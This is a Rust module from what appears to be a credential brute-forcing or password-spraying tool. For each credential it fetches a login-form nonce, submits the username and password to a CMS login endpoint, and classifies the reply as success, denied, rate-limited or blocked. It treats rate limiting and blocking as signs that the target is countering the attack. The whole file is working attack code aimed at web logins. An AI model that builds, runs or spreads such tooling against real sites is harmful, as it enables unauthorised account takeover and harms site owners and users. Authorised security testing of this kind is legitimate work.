//! Single login attempt: nonce fetch, credential submission, classification.

use crate::engine::credentials::Credential;
use crate::engine::nonce::{fetch_nonce, NonceError};
use reqwest::header::USER_AGENT;
use std::fmt;
use tracing::debug;

pub const STATUS_RATE_LIMITED: u16 = 429;
pub const STATUS_BLOCKED: u16 = 406;

const SUCCESS_MARKER: &str = "successfully logged in";
const DENIED_MARKER: &str = "access denied";
const LOGIN_TASK: &str = "login.login";

/// Result of one credential's attempt. Created once, never mutated.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LoginOutcome {
    Success,
    Denied,
    RateLimited,
    Blocked,
    UnknownResponse(u16),
    NonceMissing,
    TransportError(String),
}

impl LoginOutcome {
    /// Classifies a login POST response.
    ///
    /// Reserved statuses win over the body. The body is lower-cased and
    /// trimmed before the marker lookup.
    pub fn classify(status: u16, body: &str) -> Self {
        match status {
            STATUS_RATE_LIMITED => return LoginOutcome::RateLimited,
            STATUS_BLOCKED => return LoginOutcome::Blocked,
            200..=299 => {}
            other => return LoginOutcome::UnknownResponse(other),
        }

        let normalized = body.trim().to_lowercase();
        if normalized.contains(SUCCESS_MARKER) {
            LoginOutcome::Success
        } else if normalized.contains(DENIED_MARKER) {
            LoginOutcome::Denied
        } else {
            LoginOutcome::UnknownResponse(status)
        }
    }

    /// Outcomes that signal the target is actively countering the run.
    pub fn is_fatal(&self) -> bool {
        matches!(self, LoginOutcome::RateLimited | LoginOutcome::Blocked)
    }

    /// Stable label used for metrics and the run summary.
    pub fn kind(&self) -> &'static str {
        match self {
            LoginOutcome::Success => "success",
            LoginOutcome::Denied => "denied",
            LoginOutcome::RateLimited => "rate_limited",
            LoginOutcome::Blocked => "blocked",
            LoginOutcome::UnknownResponse(_) => "unknown_response",
            LoginOutcome::NonceMissing => "nonce_missing",
            LoginOutcome::TransportError(_) => "transport_error",
        }
    }
}

impl fmt::Display for LoginOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LoginOutcome::Success => f.write_str("Login successful"),
            LoginOutcome::Denied => f.write_str("Access denied"),
            LoginOutcome::RateLimited => f.write_str("Rate limited"),
            LoginOutcome::Blocked => f.write_str("Blocked"),
            LoginOutcome::UnknownResponse(status) if (200..300).contains(status) => {
                f.write_str("Unknown login response")
            }
            LoginOutcome::UnknownResponse(_) => f.write_str("POST request failed"),
            LoginOutcome::NonceMissing => f.write_str("Nonce not found"),
            LoginOutcome::TransportError(detail) => f.write_str(detail),
        }
    }
}

/// The two URLs every attempt talks to.
#[derive(Debug, Clone)]
pub struct Endpoints {
    pub login_url: String,
    pub login_page_url: String,
}

#[derive(Debug, Clone)]
pub struct AttemptReport {
    pub username: String,
    /// Status of the login POST, when one was received.
    pub status: Option<u16>,
    pub outcome: LoginOutcome,
}

/// Runs one attempt for `credential`. Never retries; failures are returned
/// as outcome values so they stay scoped to this credential.
pub async fn attempt(
    client: &reqwest::Client,
    credential: &Credential,
    endpoints: &Endpoints,
    user_agent: &str,
    debug_enabled: bool,
) -> AttemptReport {
    debug!(username = %credential.username, "Attempting login");

    let report = |status, outcome| AttemptReport {
        username: credential.username.clone(),
        status,
        outcome,
    };

    let nonce = match fetch_nonce(client, &endpoints.login_page_url, debug_enabled).await {
        Ok(nonce) => nonce,
        Err(NonceError::Missing) => return report(None, LoginOutcome::NonceMissing),
        Err(e) => return report(None, LoginOutcome::TransportError(e.to_string())),
    };

    debug!(username = %credential.username, nonce = %nonce, "Submitting credentials");

    let form = [
        ("username", credential.username.as_str()),
        ("password", credential.password.as_str()),
        ("task", LOGIN_TASK),
        ("login-form-nonce", nonce.as_str()),
    ];

    let response = match client
        .post(&endpoints.login_url)
        .header(USER_AGENT, user_agent)
        .form(&form)
        .send()
        .await
    {
        Ok(r) => r,
        Err(e) => {
            return report(
                None,
                LoginOutcome::TransportError(format!("login request failed: {}", e)),
            )
        }
    };

    let status = response.status().as_u16();
    let body = match response.text().await {
        Ok(b) => b,
        Err(e) => {
            return report(
                Some(status),
                LoginOutcome::TransportError(format!("failed to read login response: {}", e)),
            )
        }
    };

    if debug_enabled {
        debug!(username = %credential.username, status, body = %body, "Full response text");
    }

    report(Some(status), LoginOutcome::classify(status, &body))
}
